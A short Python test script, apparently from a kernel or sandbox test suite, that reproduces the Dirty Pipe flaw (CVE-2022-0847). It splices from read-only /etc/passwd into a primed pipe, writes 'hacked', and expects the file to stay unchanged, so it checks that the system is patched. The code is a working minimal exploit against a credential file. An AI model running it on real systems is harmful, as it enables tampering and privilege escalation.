# Rewrites the cached pages of a file that can only be read (as CVE-2022-0847 did).
# ends: exited
# exit: 0
# shows: (?m)^unchanged$
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
r, w = os.pipe()
for _ in range(16):
    os.write(w, b"x" * 4096)
    os.read(r, 4096)
before = open("/etc/passwd", "rb").read()
fd = os.open("/etc/passwd", os.O_RDONLY)
offset = ctypes.c_longlong(0)
libc.splice(fd, ctypes.byref(offset), w, None, ctypes.c_size_t(1), 0)
os.write(w, b"hacked")
print("unchanged" if open("/etc/passwd", "rb").read() == before else "changed")
